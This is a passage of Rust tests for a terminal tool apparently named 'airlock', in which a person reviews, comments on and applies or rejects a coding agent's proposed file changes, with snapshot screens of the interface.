    all.push(("crlf", Some("a\r\nb\r\nc\r\n"), Some("a\nB\nc\n")));
    all.push(("empty", None, Some("")));
    all.push(("gone", Some("x\n"), None));
    let sheet = sheet(&all, &[]);
    let keys = prop::collection::vec(prop::sample::select(KEYS.to_vec()), 0..80);
    let sizes = prop::sample::select(vec![(80, 16), (40, 10), (140, 20), (20, 6)]);
    let mut runner = TestRunner::new(Config { cases: 300, failure_persistence: None, ..Config::default() });
    let run = runner.run(&(keys, sizes, any::<bool>()), |(keys, size, edits)| {
        let mut review = ReviewFixture::open(sheet, ReviewState::default(), size, PLAIN);
        review.host.editor_output = edits.then(|| b"edited\n".to_vec());
        for key in &keys {
            review.press(key);
            let again = ReviewState::from_events(review.host.saved_events.clone());
            prop_assert_eq!(&again.decisions, &review.app.state.decisions, "saved events after {}", key);
            prop_assert!(
                review.decisions().iter().any(|line| matches!(line.as_str(), "refused -" | "refused rejected"))
            );
        }
        let last = review.app.state.decisions.clone();
        review.press("<Esc><Esc>");
        let undone = "u".repeat(keys.len() * 2);
        review.press(&undone);
        prop_assert_eq!(&review.app.state.decisions, &airlock::review::Decisions::default());
        review.press(&"<C-r>".repeat(keys.len() * 2));
        // Redo restores the last state, unless the keys themselves undid or redid something.
        let all_back = review.app.state.decisions == last || keys.iter().any(|k| matches!(*k, "u" | "<C-r>"));
        prop_assert!(all_back);
        Ok(())
    });
    run.expect("the property holds");
}

#[test]
fn file_decision_reports_overridden_lines() {
    let mut review = open_at_a_rs();
    review.press("n");
    assert!(
        review.press("hy").contains("4 rejected lines are now accepted, like the rest of the file"),
        "{}",
        review.screen()
    );
    let mut review = open_at_a_rs();
    review.press("h");
    assert!(!review.press("y").contains("like the rest of the file"), "no decision was overridden");
}

#[test]
fn search_steps_within_hunk_and_counts() {
    let old = "a\n";
    let new = "a\nfind 1\nx\nfind 2\ny\nfind 3\n";
    let mut review = ReviewFixture::from_files(&[("f.txt", Some(old), Some(new))], SIZE);
    assert!(review.press("/find<Enter>").contains("1 of 3 in this file"), "{}", review.screen());
    // A search does not choose single lines.
    assert!(review.screen().contains("hunk 1/1 [undecided]"), "{}", review.screen());
    assert!(
        review.press("<C-n>").contains("2 of 3") && review.press("<C-n>").contains("3 of 3"),
        "{}",
        review.screen()
    );
    assert!(review.press("<C-n>").contains("1 of 3") && review.press("<C-p>").contains("3 of 3"), "round again");
    review.press("lg");
    assert!(
        review.press("<C-n>").contains("▶  4 + find 2") && review.screen().contains("2 of 3"),
        "{}",
        review.screen()
    );
    assert!(review.press("<C-n><C-n>").contains("▶  2 + find 1"), "round again");
    assert!(review.press("<C-p>").contains("▶  6 + find 3"), "{}", review.screen());
}

#[test]
fn split_hunk_parts_are_marked() {
    let mut review = open_at_a_rs();
    review.press("ljs");
    assert_snapshot!(review.press("["), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Files 2/3 ──────────────┬ a.rs modified hunk 1/3 part 1/2 [undecided] ───────┐
    │  ! .envrc            0/1│  1  1   fn one() {                                 ┃
    │▌   a.rs              0/3│▶ 2    -     first(1);                           [ ]┃
    │    b/long name.txt   0/1│▌    2 +     first(10);                          [ ]┃
    │                         │┄ 3    -     second(2);                          [ ]┃
    │                         │     3 +     second(20);                         [ ]┃
    │                         │  4  4   }                                          ┃
    │                         │  5  5                                              ┃
    │                         │  6  6   fn two() {                                 │
    │                         │  7  7       third();                               │
    │                         │     8 +     fourth();                           [ ]│
    │                         │  8  9   }                                          │
    │                         │  9 10                                              │
    └─────────────────────────┴────────────────────────────────────────────────────┘
     y accept  n reject  j k move  → single lines  w apply  q leave  ? all keys
    ");
    let screen = review.press("]");
    assert!(screen.contains("│▶ 3    -     second(2)") && screen.contains("│▌    3 +     second(20)"), "{screen}");
    assert!(screen.contains("│  2    -     first(1)"), "{screen}");
}

#[test]
fn feedback_is_previewed_and_edited() {
    let mut review = open_at_a_rs();
    assert!(review.press("R").contains("nothing to send"), "{}", review.screen());
    review.press("n");
    let screen = review.press("R");
    assert!(screen.contains("Message to the agent") && screen.contains("Rejected, lines 2 to 3:"), "{screen}");
    // The message scrolls, and Esc sends nothing.
    assert!(!review.press("jjjjj").contains("I have reviewed"), "{}", review.screen());
    assert!(review.press("<Home>k<Esc>").contains("y accept"), "{}", review.screen());
    assert_eq!((review.effect, review.app.pending_feedback.is_none()), (Effect::Redraw, true));
    // The editor returns an empty text, then fails, then returns another text.
    review.host.editor_output = Some(b" \n".to_vec());
    assert!(review.press("Re").contains("an empty message is not sent"), "{}", review.screen());
    review.host.editor_output = None;
    assert!(review.press("e").contains("the editor failed"), "{}", review.screen());
    assert!(String::from_utf8_lossy(&review.host.editor_input).contains("+    first(10);"));
    review.host.editor_output = Some(b"Please do it again.\n".to_vec());
    assert!(review.press("e").contains("Please do it again."), "{}", review.screen());
    review.press("y");
    let sent = review.app.pending_feedback.take().expect("a message");
    assert_eq!(
        (sent.text.as_str(), sent.item_ids().len()),
        ("Please do it again.\n", 0),
        "an edited message has no items"
    );
    assert_eq!(review.effect, Effect::Exit(ReviewOutcome::Send));
    // Without an agent to send to, the screen says why.
    let options = ReviewOptions {
        name: "r".into(),
        styles: PLAIN,
        round_diff: None,
        cannot_send: Some("no agent is running".into()),
        start_at: None,
        notice: None,
        commits: Vec::new(),
        keymap: Keymap::default(),
    };
    let mut review = ReviewFixture::open_with(review.model, ReviewState::default(), SIZE, options);
    assert!(review.press("R").contains("no agent is running"));
    assert!(!review.press("?").contains("for another round"));
}

#[test]
fn deleted_file_shows_old_content() {
    let mut review = ReviewFixture::from_files(&[("gone.txt", Some("one\ntwo\n"), None)], SIZE);
    let screen = review.screen();
    assert!(
        screen.contains("deleted, 8 bytes") && screen.contains("1 - one") && screen.contains("2 - two"),
        "{screen}"
    );
    assert!(review.press("y").contains("1/1 decided"));
}

#[test]
fn edit_of_split_hunk_covers_whole_hunk() {
    let mut review = open_at_a_rs();
    review.host.editor_output = Some(b"    mine();\n".to_vec());
    review.press("ljs[ne");
    assert!(review.screen().contains("hunk 1/3 [edited]"), "{}", review.screen());
    assert!(review.press("n").contains("[x]"), "it can be decided on: {}", review.screen());
}

#[test]
fn conflicts_with_high_risk_need_typed_word() {
    let mut review = open_at_a_rs();
    review.press("{yyyy");
    review.host.conflicts = vec!["a.rs".into()];
    assert!(review.press("w").contains("s skip them"), "{}", review.screen());
    assert!(review.press("s").contains("Type apply to confirm"), "{}", review.screen());
    review.press("apply<Enter>");
    assert_eq!(review.effect, Effect::Exit(ReviewOutcome::Apply(Some(OnConflict::Skip))));
}

#[test]
fn file_list_pages_and_undo_returns_to_start() {
    let names: Vec<String> = (0..50).map(|n| format!("f{n:02}")).collect();
    let files: Vec<_> = names.iter().map(|name| (name.as_str(), None, Some("x\n"))).collect();
    let mut review = ReviewFixture::from_files(&files, SIZE);
    let at = |screen: String| {
        screen.lines().find(|l| l.contains('▶')).expect("a cursor").chars().skip(5).take(3).collect::<String>()
    };
    review.press("h");
    assert_eq!(at(review.press("G")), "f49");
    assert_eq!(at(review.press("g")), "f00");
    assert_ne!(at(review.press("<PgDn>")), "f01");
    review.press("Dy");
    assert!(review.press("u").contains("0/50 decided"));
    assert_eq!(at(review.screen()), "f00");
    // The help scrolls as well.
    let mut review = ReviewFixture::from_files(&files, (60, 12));
    let first = review.press("?");
    assert_ne!(review.press("<Down><Down>"), first);
    assert_eq!(review.press("<Up><Up><Up>"), first);
}

#[test]
fn long_hunk_scrolls_to_its_end() {
    let text: String = (0..100).map(|n| format!("line {n}\n")).collect();
    let mut review = ReviewFixture::from_files(&[("f", None, Some(&text))], SIZE);
    for _ in 0..15 {
        review.press("<PgDn>");
    }
    assert!(review.screen().contains("line 99"), "{}", review.screen());
    let end = format!("{}needle\n", "x".repeat(500));
    let mut review = ReviewFixture::from_files(&[("f", None, Some(&end))], SIZE);
    assert!(review.press("/needle<Enter>").contains("xneedle"), "{}", review.screen());
}

#[test]
fn keys_can_be_rebound() {
    let overrides = [("accept".to_owned(), vec!["x".to_owned()]), ("reject".to_owned(), vec!["y".to_owned()])];
    let keymap = Keymap::with_overrides(&overrides.into()).expect("a valid keymap");
    let options = ReviewOptions {
        name: "calm-otter".into(),
        styles: PLAIN,
        round_diff: None,
        cannot_send: None,
        start_at: None,
        notice: None,
        commits: Vec::new(),
        keymap,
    };
    let model = sheet(&[("a", None, Some("1\n")), ("b", None, Some("2\n"))], &[]);
    let mut review = ReviewFixture::open_with(model, ReviewState::default(), SIZE, options);
    assert!(review.screen().contains("x accept  y reject"), "{}", review.screen());
    assert!(review.press("?").contains("│  x "), "{}", review.screen());
    review.press("<Esc>xyn");
    assert_eq!(describe_decisions(model, &review.app.state), ["a accepted", "b rejected"]);
}

/// Returns 30 files in folders, one of them of high risk.
fn files_in_folders() -> Vec<FileCase<'static>> {
    let mut files: Vec<FileCase<'static>> = vec![(".envrc", None, Some("layout python\n"))];
    for folder in ["src/core", "src/web/pages", "docs"] {
        for n in 0..9 {
            files.push((format!("{folder}/f{n}.txt").leak(), Some("one\n"), Some("two\n")));
        }
    }
    files.extend([("docs/Makefile", None, Some("all:\n")), ("z.txt", Some("a\n"), Some("b\n"))]);
    files
}

#[test]
fn folders_are_decided_as_one() {
    let mut review = ReviewFixture::from_files(&files_in_folders(), (100, 24));
    assert_snapshot!(review.press("h"), @"
     airlock review calm-otter   30 files +30 −28   0/30 decided   order: risk
    ┌ Files 1/30 ─────────────┬ .envrc added 1 hunk [undecided] ! high: directory-hook ────────────────┐
    │▶ ! .envrc            0/1┃ ! high: runs when you enter the directory                              │
    │  ? ▾ docs/          0/10┃ ! high: sets environment variables of commands                         │
    │  ?   Makefile        0/1┃ 1 + layout python                                                   [ ]│
    │      f0.txt          0/1┃                                                                        │
    │      f1.txt          0/1┃                                                                        │
    │      f2.txt          0/1┃                                                                        │
    │      f3.txt          0/1┃                                                                        │
    │      f4.txt          0/1┃                                                                        │
    │      f5.txt          0/1┃                                                                        │
    │      f6.txt          0/1┃                                                                        │
    │      f7.txt          0/1┃                                                                        │
    │      f8.txt          0/1│                                                                        │
    │    ▾ src/           0/18│                                                                        │
    │      ▾ core/         0/9│                                                                        │
    │        f0.txt        0/1│                                                                        │
    │        f1.txt        0/1│                                                                        │
    │        f2.txt        0/1│                                                                        │
    │        f3.txt        0/1│                                                                        │
    │        f4.txt        0/1│                                                                        │
    │        f5.txt        0/1│                                                                        │
    └─────────────────────────┴────────────────────────────────────────────────────────────────────────┘
     y accept file  n reject file  a/d undecided hunks  → hunks  z fold  w apply  q leave  ? all keys
    ");
    // The folder that contains a file of some risk comes before the others.
    assert_snapshot!(review.press("j"), @"
     airlock review calm-otter   30 files +30 −28   0/30 decided   order: risk
    ┌ Files 2/30 ─────────────┬ docs/ folder ──────────────────────────────────────────────────────────┐
    │  ! .envrc            0/1┃ 10 files, +10 −9 lines                                                 │
    │▶ ? ▾ docs/          0/10┃ 0 of 10 hunks decided                                                  │
    │  ?   Makefile        0/1┃ lines: 0 accepted, 0 rejected, 19 undecided                            │
    │      f0.txt          0/1┃                                                                        │
    │      f1.txt          0/1┃                                                                        │
    │      f2.txt          0/1┃                                                                        │
    │      f3.txt          0/1┃                                                                        │
    │      f4.txt          0/1┃                                                                        │
    │      f5.txt          0/1┃                                                                        │
    │      f6.txt          0/1┃                                                                        │
    │      f7.txt          0/1┃                                                                        │
    │      f8.txt          0/1│                                                                        │
    │    ▾ src/           0/18│                                                                        │
    │      ▾ core/         0/9│                                                                        │
    │        f0.txt        0/1│                                                                        │
    │        f1.txt        0/1│                                                                        │
    │        f2.txt        0/1│                                                                        │
    │        f3.txt        0/1│                                                                        │
    │        f4.txt        0/1│                                                                        │
    │        f5.txt        0/1│                                                                        │
    └─────────────────────────┴────────────────────────────────────────────────────────────────────────┘
     y accept folder  n reject folder  → open  z collapse  u undo  w apply  q leave  ? all keys
    ");
    assert_snapshot!(review.press("y"), @"
     airlock review calm-otter   30 files +30 −28   0/30 decided   order: risk
    ┌ Files 2/30 ─────────────┬ docs/ folder ──────────────────────────────────────────────────────────┐
    │  ! .envrc            0/1┃ 10 files, +10 −9 lines                                                 │
    │▶ ? ▾ docs/          0/10┃ 0 of 10 hunks decided                                                  │
    │  ?   Makefile        0/1┃ lines: 0 accepted, 0 rejected, 19 undecided                            │
    │      f0.txt          0/1┃                                                                        │
    │      f1.txt          0/1┃                                                                        │
    │      f2.txt          0/1┃                                                                        │
    │      f3.txt          0/1┃                                                                        │
    │      f4.txt          0/1┃                                                                        │
    │      f5.txt          0/1┃                                                                        │
    │      f6.txt          0/1┃                                                                        │
    │      f7.txt          0/1┃                                                                        │
    │      f8.txt          0/1│                                                                        │
    │    ▾ src/           0/18│                                                                        │
    │      ▾ core/         0/9│                                                                        │
    │        f0.txt        0/1│                                                                        │
    │        f1.txt        0/1│                                                                        │
    │        f2.txt        0/1│                                                                        │
    │        f3.txt        0/1│                                                                        │
    │        f4.txt        0/1│                                                                        │
    │        f5.txt        0/1│                                                                        │
    └─────────────────────────┴────────────────────────────────────────────────────────────────────────┘
     Accept 10 undecided hunks in 10 files of docs/, 19 lines unseen? [y/n]
    ");
    review.press("y");
    let decided = |review: &ReviewFixture, folder: &str| {
        let rows = review.decisions().into_iter().filter(|row| row.starts_with(folder));
        rows.map(|row| row.rsplit(' ').next().unwrap_or_default().to_owned()).collect::<Vec<_>>()
    };
    assert_eq!(decided(&review, "docs/"), vec!["accepted"; 10]);
    assert_eq!(decided(&review, "src/"), vec!["-"; 18]);
    // When nothing of it is undecided, all of it is decided again.
    review.press("h");
    while !review.screen().contains("docs/ folder") {
        review.press("k");
    }
    assert!(review.press("n").contains("Reject 10 decided hunks in 10 files of docs/? [y/n]"), "{}", review.screen());
    review.press("y");
    assert_eq!(decided(&review, "docs/"), vec!["rejected"; 10]);
    assert!(review.press("u").contains("undone: 10 hunks of 10 files rejected"), "{}", review.screen());
    assert_eq!(decided(&review, "docs/"), vec!["accepted"; 10]);
    review.press("u");
    assert!(review.decisions().iter().all(|row| row.ends_with(" -")));
}

/// Random decisions on folders, files and hunks; then everything accepted or rejected by folder, in a random order; then undone.
#[test]
fn decisions_on_folders_in_any_order_end_in_all_or_none() {
    for seed in 1..=30_u64 {
        let mut random = seed.wrapping_mul(0x9e37_79b9_7f4a_7c15);
        let mut pick = |count: usize| {
            random ^= random << 13;
            random ^= random >> 7;
            random ^= random << 17;
            usize::try_from(random % count as u64).expect("small")
        };
        let mut review = ReviewFixture::from_files(&files_in_folders()[1..], (100, 45));
        let before = review.decisions();
        assert!(before.iter().all(|line| line.ends_with(" -")), "{before:?}");
        let decide = |review: &mut ReviewFixture, row: &str, keys: &[&str]| {
            let is_row = |line: &str| line.chars().take(20).collect::<String>().contains(row);
            // A row of a collapsed folder is not on the screen.
            let Some(at) = review.screen().lines().position(is_row) else { return };
            review.click(6, u16::try_from(at).expect("a row"));
            for key in keys {
                if review.press(key).contains("[y/n]") {
                    review.press("y");
                }
            }
        };
        let rows = [" docs/", " src/", " core/", " web/pages/", " z.txt"];
        for _ in 0..12 {
            let keys: [&[&str]; 7] = [&["y"], &["n"], &[" "], &["h"], &["l"], &["j", "y"], &["]", "n"]];
            decide(&mut review, rows[pick(rows.len())], keys[pick(7)]);
        }
        let (key, word) = [("y", "accepted"), ("n", "rejected")][pick(2)];
        let mut top = vec![" docs/", " src/", " z.txt"];
        while !top.is_empty() {
            // First what is undecided, after which the cursor goes on, then what is decided otherwise.
            let row = top.swap_remove(pick(top.len()));
            decide(&mut review, row, &[key]);
            decide(&mut review, row, &[key]);
        }
        let after = review.decisions();
        assert!(after.iter().all(|line| line.ends_with(&format!(" {word}"))), "{seed}: {after:?}");
        for _ in 0..200 {
            review.press("u");
        }
        assert_eq!(review.decisions(), before, "{seed}");
    }
}

#[test]
fn hidden_hunks_of_a_folder_are_not_accepted_with_it() {
    let mut files = files_in_folders();
    files.push((
        "py/a.py",
        Some("if a:\n    b()\nc\nd\ne\nf\ng\nh\ni\nj\n"),
        Some("if a:\nb()\nc\nd\ne\nf\ng\nh\ni\nJ\n"),
    ));
    let mut review = ReviewFixture::from_files(&files, (100, 40));
    review.press("b");
    let decisions = |review: &ReviewFixture| -> Vec<String> {
        review.decisions().into_iter().filter(|line| line.starts_with("py/")).collect()
    };
    review.press("/a.py<Enter>hhh");
    assert!(review.screen().contains("py/ folder"), "{}", review.screen());
    assert!(review.press("y").contains("Accept 1 undecided hunk in 1 file of py/"), "{}", review.screen());
    review.press("y");
    assert_eq!(decisions(&review), ["py/a.py - accepted"]);
    review.press("/a.py<Enter>hhh");
    assert!(review.press("y").contains("no undecided hunk can be accepted"), "{}", review.screen());
    assert_eq!(decisions(&review), ["py/a.py - accepted"]);
    // They can be rejected with it, and accepted when they are shown.
    review.press("b/a.py<Enter>hhh");
    assert!(review.press("y").contains("Accept 1 undecided hunk in 1 file of py/"), "{}", review.screen());
    review.press("y");
    assert_eq!(decisions(&review), ["py/a.py accepted accepted"]);
}

#[test]
fn high_risk_in_a_folder_is_never_accepted_with_it() {
    let mut files = files_in_folders();
    files[0].0 = "docs/.envrc";
    let mut review = ReviewFixture::from_files(&files, (100, 24));
    review.press("hk");
    assert!(review.screen().contains("docs/ folder"), "{}", review.screen());
    assert!(review.press("y").contains("1 high-risk is skipped."), "{}", review.screen());
    review.press("y");
    assert!(review.decisions().contains(&"docs/.envrc -".to_owned()), "{:?}", review.decisions());
    assert!(review.decisions().contains(&"docs/f0.txt accepted".to_owned()), "{:?}", review.decisions());
}

#[test]
fn folders_collapse_and_expand() {
    let mut review = ReviewFixture::from_files(&files_in_folders(), (100, 24));
    review.press("h<End>k<Left>");
    assert!(review.screen().contains("src/web/pages/ folder"), "the folder of the last file: {}", review.screen());
    review.press("<Left>");
    assert!(review.screen().contains("▸ web/pages/"), "{}", review.screen());
    review.press("<Left>");
    assert!(review.screen().contains(" src/ folder"), "{}", review.screen());
    review.press("z");
    assert!(review.screen().contains("▸ src/") && !review.screen().contains("core/"), "{}", review.screen());
    // Going to a file in it expands it again.
    review.press("/src/web<Enter>");
    assert!(review.screen().contains("▾ web/pages/"), "{}", review.screen());
    // The list instead of the tree.
    assert!(review.press("`").contains("src/web/pages/f0.txt"), "{}", review.screen());
    assert!(review.press("ot").contains("▾ web/pages/"), "{}", review.screen());
    let mouse = |review: &mut ReviewFixture, text: &str| {
        let row = review.screen().lines().position(|line| line.contains(text)).expect("it is on the screen");
        review.click(6, u16::try_from(row).expect("a row"))
    };
    mouse(&mut review, "▾ src/");
    assert!(review.screen().contains(" src/ folder"), "{}", review.screen());
    mouse(&mut review, "▾ src/");
    assert!(review.screen().contains("▸ src/"), "{}", review.screen());
}

#[test]
fn prompts_name_their_keys_and_control_c_closes_only_them() {
    let mut review = open_at_a_rs();
    assert_snapshot!(review.press("ctwo words"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Files 2/3 ──────────────┬ a.rs modified hunk 1/3 [undecided] ────────────────┐
    │  ! .envrc            0/1│  1  1   fn one() {                                 ┃
    │▌   a.rs              0/3│▶ 2    -     first(1);                           [ ]┃
    │    b/long name.txt   0/1│▌ 3    -     second(2);                          [ ]┃
    │                         │▌    2 +     first(10);                          [ ]┃
    │                         │▌    3 +     second(20);                         [ ]┃
    │                         │  4  4   }                                          │
    │                         │  5  5                                              │
    │                         │  6  6   fn two() {                                 │
    │                         │  7  7       third();                               │
    │                         │     8 +     fourth();                           [ ]│
    └─────────────────────────┴────────────────────────────────────────────────────┘
     Comment on the hunk at a.rs:2
     > two words
     Enter save   Ctrl-e in your editor   Esc back   empty: remove
    ");
    assert!(review.press("<C-c>").contains("the comment is not saved (c continues it)"), "{}", review.screen());
    assert_eq!(review.effect, Effect::Redraw, "the review goes on");
    assert_eq!(review.app.state.decisions.all_comments().count(), 0);
    // The text is there again, but not on another hunk, whose prompt does not drop it.
    assert!(!review.press("]c").contains("two words"), "{}", review.screen());
    assert!(review.press("<Esc>[c").contains(" > two words"), "{}", review.screen());
    review.press("<C-u><Esc>");
    assert!(review.press("cthree<Esc>c").contains(" > three"), "{}", review.screen());
    review.press("<C-u><Esc>");
    // Several lines are written in the editor, and edited there.
    review.host.editor_output = Some(b"first\n\nthird\n".to_vec());
    review.press("cdraft<C-e>");
    assert_eq!(review.host.editor_input, b"draft");
    let comments: Vec<&str> = review.app.state.decisions.all_comments().map(|(_, text)| text).collect();
    assert_eq!(comments, ["first\n\nthird"]);
    assert!(review.screen().contains("● first"), "{}", review.screen());
    review.host.editor_output = Some(b"one line\n".to_vec());
    review.press("c");
    assert_eq!(review.host.editor_input, b"first\n\nthird");
    assert!(review.screen().contains("● one line"), "{}", review.screen());
    for (key, name) in [("<Tab>", "Tab"), ("X", "X")] {
        assert!(
            review.press(key).contains(&format!("{name} has no effect here (? lists the keys)")),
            "{}",
            review.screen()
        );
        assert!(!review.press(key).contains("has no effect"), "once");
    }
}

#[test]
fn comment_on_a_part_of_a_split_hunk_quotes_that_part() {
    let mut review = open_at_a_rs();
    review.press("ljscwhy twenty?<Enter>");
    assert!(review.screen().contains("● (on the part at old line 3) why twenty?"), "{}", review.screen());
    let message = review.press("R");
    assert!(message.contains("Comment on line 3:"), "{message}");
    assert!(message.contains("-    second(2);") && !message.contains("first(1)"), "{message}");
}

#[test]
fn single_lines_end_with_their_hunk() {
    let mut review = open_at_a_rs();
    review.press("lyyyy");
    assert!(review.screen().contains("a.rs modified hunk 2/3 [undecided]"), "{}", review.screen());
    review.press("u");
    assert!(review.screen().contains("undone: 1 hunk of a.rs accepted"), "{}", review.screen());
}

#[test]
fn rejecting_an_edited_hunk_says_that_the_edit_is_dropped() {
    let mut review = open_at_a_rs();
    review.host.editor_output = Some(b"    mine();\n".to_vec());
    review.press("e");
    assert!(review.press("n").contains("your edit is dropped (u brings it back)"), "{}", review.screen());
    review.press("u");
    assert!(review.screen().contains("[edited]"), "{}", review.screen());
}

/// Returns a region in conflict at lines of the base, with one line on each side.
fn region(id: &str, base: std::ops::Range<usize>, ours: &str, theirs: &str) -> ConflictRegion {
    let side = |text: &str| RegionSide { lines: base.clone(), text: Some(text.into()), note: String::new() };
    ConflictRegion {
        id: id.into(),
        base: side("    first(1);\n"),
        ours: side(ours),
        theirs: side(theirs),
        is_whole: false,
        can_combine: true,
    }
}

/// Opens a review in which the working tree has changed a line of the first hunk of `a.rs`.
fn open_in_conflict() -> ReviewFixture {
    let mut review = open_at_a_rs();
    review.host.conflicts = vec!["a.rs".into()];
    review.host.regions = vec![region("r1", 1..2, "    mine(1);\n", "    first(10);\n")];
    let decisions = review.app.take_plan_request().expect("a plan is needed at first");
    assert!(review.app.take_plan_request().is_none(), "once");
    let plan = review.host.preview_apply(&decisions).expect("planned");
    assert!(review.app.store_plan(&plan));
    assert!(!review.app.store_plan(&plan), "nothing has changed");
    review.draw();
    review
}

#[test]
fn conflicts_are_marked_before_deciding() {
    let review = open_in_conflict();
    assert_snapshot!(review.screen(), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Files 2/3 ──────────────┬ a.rs modified hunk 1/3 [undecided] ≠ conflict ─────┐
    │  !  .envrc           0/1│  1  1   fn one() {                                 ┃
    │▌  ≠ a.rs             0/3│▶ 2    -     first(1);                          ≠[ ]┃
    │     b/long name.txt  0/1│▌ 3    -     second(2);                         ≠[ ]┃
    │                         │▌    2 +     first(10);                         ≠[ ]┃
    │                         │▌    3 +     second(20);                        ≠[ ]┃
    │                         │         ≠ conflict: your working tree has other    ┃
    │                         │           lines here, line 2 (x resolves it)       │
    │                         │           |     mine(1);                           │
    │                         │  4  4   }                                          │
    │                         │  5  5                                              │
    │                         │  6  6   fn two() {                                 │
    │                         │  7  7       third();                               │
    └─────────────────────────┴────────────────────────────────────────────────────┘
     x resolve conflict  y accept  n reject  e edit  w apply  q leave  ? all keys
    ");
    assert!(review.app.state.decisions.unit_decisions().next().is_none(), "nothing is decided");
}

#[test]
fn conflict_is_resolved_where_it_is_shown() {
    let mut review = open_in_conflict();
    assert_snapshot!(review.press("x"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Conflict 1/1, 0 resolved: a.rs ──────────────────────────────────────────────┐
    │ base, line 2                                                                 │
    │        first(1);                                                             │
    │                                                                              │
    │ ours (working tree), line 2                                                  │
    │  +     mine(1);                                                              │
    │                                                                              │
    │ theirs (accepted), line 2                                                    │
    │  +     first(10);                                                            │
    │                                                                              │
    │ result: not chosen yet                                                       │
    │                                                                              │
    │                                                                              │
    └──────────────────────────────────────────────────────────────────────────────┘
     o ours  t theirs  b both  e edit  u none  [ ] previous, next  Esc back
    ");
    assert_snapshot!(review.press("b"), @"
     airlock review calm-otter   3 files +6 −4   1/5 decided   order: path
    ┌ Conflict 1/1, 1 resolved: a.rs ──────────────────────────────────────────────┐
    │ base, line 2                                                                 │
    │        first(1);                                                             │
    │                                                                              │
    │ ours (working tree), line 2                                                  │
    │  +     mine(1);                                                              │
    │                                                                              │
    │ theirs (accepted), line 2                                                    │
    │  +     first(10);                                                            │
    │                                                                              │
    │ result: both                                                                 │
    │        mine(1);                                                              │
    │        first(10);                                                            │
    └──────────────────────────────────────────────────────────────────────────────┘
     the conflict is resolved: Enter goes back, e edits the result
    ");
    let choices = |review: &ReviewFixture| {
        review.app.state.decisions.conflict_choices().values().map(ToString::to_string).collect::<Vec<_>>()
    };
    assert_eq!(choices(&review), ["both"]);
    // One undo takes back the choice and the acceptance that came with it.
    assert!(review.press("<Enter>").contains("hunk 1/3 [accepted] ≠ resolved"), "{}", review.screen());
    assert!(
        review.screen().contains("|     mine(1);") && review.screen().contains("|     first(10);"),
        "the result is shown"
    );
    review.press("u");
    assert!(choices(&review).is_empty());
    assert!(review.screen().contains("0/5 decided"), "{}", review.screen());
    // In the conflict view as well.
    review.press("xbu");
    assert!(choices(&review).is_empty() && review.screen().contains("0/5 decided"), "{}", review.screen());
    review.press("<Esc>");
    // What is typed for the hunk is the result of the conflict.
    assert!(review.press("e").contains("the hunk is in conflict: e edits its result"), "{}", review.screen());
    review.press("<Esc>");
    // The user's text, which must not keep the markers.
    review.host.editor_output = None;
    assert!(review.press("xe").contains("the editor failed"), "{}", review.screen());
    let offered = String::from_utf8(review.host.editor_input.clone()).expect("UTF-8");
    assert_snapshot!(offered, @"
    <<<<<<< ours
        mine(1);
    ||||||| base
        first(1);
    =======
        first(10);
    >>>>>>> theirs
    ");
    review.host.editor_output = Some(offered.into_bytes());
    assert!(review.press("e").contains("still has conflict markers"), "{}", review.screen());
    assert!(choices(&review).is_empty());
    review.host.editor_output = Some(b"    both(1, 10);\n".to_vec());
    review.press("e");
    assert_eq!(choices(&review), [format!("text {}", hash_text("    both(1, 10);\n"))]);
    assert!(review.press("<Esc>").contains("≠ conflict resolved: your text (x changes"), "{}", review.screen());
    // The choice is saved as a decision, and is there again after a restart.
    let again = ReviewState::from_events(review.host.saved_events.clone());
    assert_eq!(again.decisions, review.app.state.decisions);
    assert_eq!(ReviewState::from_events(again.to_events()).decisions, again.decisions);
}

#[test]
fn conflicts_of_an_apply_are_resolved_and_then_applied() {
    let mut review = open_in_conflict();
    review.press("yw");
    assert!(review.press("y").contains("r resolves them"), "{}", review.screen());
    assert!(review.press("m").contains("Write conflict markers into 1 file, and apply the rest? [y/n]"), "markers ask");
    assert!(!review.press("n").contains("[y/n]"), "{}", review.screen());
    assert!(review.press("r").contains("Conflict 1/1, 0 resolved: a.rs"), "{}", review.screen());
    assert!(review.press("t").contains("the conflict is resolved: Enter goes back"), "{}", review.screen());
    let screen = review.press("<Enter>");
    assert!(screen.contains("1 file to write (1 apply)") && !screen.contains("in conflict"), "{screen}");
    review.press("Y");
    assert_eq!(review.effect, Effect::Exit(ReviewOutcome::ApplyAndStay));
}

#[test]
fn conflict_that_is_not_about_lines_is_named() {
    let mut review = open_in_conflict();
    review.host.regions.clear();
    let plan = review.host.preview_apply(&Default::default()).expect("planned");
    review.app.store_plan(&plan);
    assert!(
        review.press("x").contains("cannot be resolved here: both sides change the same lines"),
        "{}",
        review.screen()
    );
    // All hunks are in conflict then.
    assert!(review.press("]").contains("hunk 2/3 [undecided] ≠ conflict"), "{}", review.screen());
    let mut review = open_at_a_rs();
    assert!(review.press("x").contains("are not known yet"), "{}", review.screen());
    review.app.store_plan(&Default::default());
    assert!(review.press("x").contains("has no conflict"), "{}", review.screen());
}

#[test]
fn large_apply_begins_with_its_sum_and_folds_what_stays() {
    let mut review = ReviewFixture::from_files(&files_in_folders(), (100, 24));
    review.press("hjjy");
    let screen = review.press("w");
    assert!(screen.contains("1 file to write (1 apply); 29 files not or only partly applied"), "{screen}");
    assert!(screen.contains("Not applied: 29 files (z lists them)"), "{screen}");
    assert!(review.press("z").contains("docs/f0.txt: 2 lines undecided"), "{}", review.screen());
}

#[test]
fn changed_hunk_marks_its_new_lines_and_shows_the_comment_that_led_to_it() {
    let sheet = sheet(&sample_files(), &[]);
    let (file, path) = (&sheet.files[1], sheet.files[1].change.path.clone());
    let unit = file.units[0].id.clone();
    let comment = |text: &str, is_sent, unit: Option<&String>| EarlierComment {
        path: path.clone(),
        text: text.into(),
        is_sent,
        line: 1,
        unit: unit.cloned(),
    };
    let since = RoundDiff {
        new: [unit.clone()].into(),
        touched: [path.clone()].into(),
        // The lines are two removed ones and two added ones.
        new_lines: [(unit.clone(), LineSet::from_lines([1, 3]))].into(),
        comments: vec![comment("also the second\nplease", true, Some(&unit)), comment("and this?", true, None)],
        ..RoundDiff::default()
    };
    let options = ReviewOptions {
        name: "calm-otter".into(),
        styles: PLAIN,
        round_diff: Some(since),
        cannot_send: None,
        start_at: None,
        notice: None,
        commits: Vec::new(),
        keymap: Keymap::default(),
    };
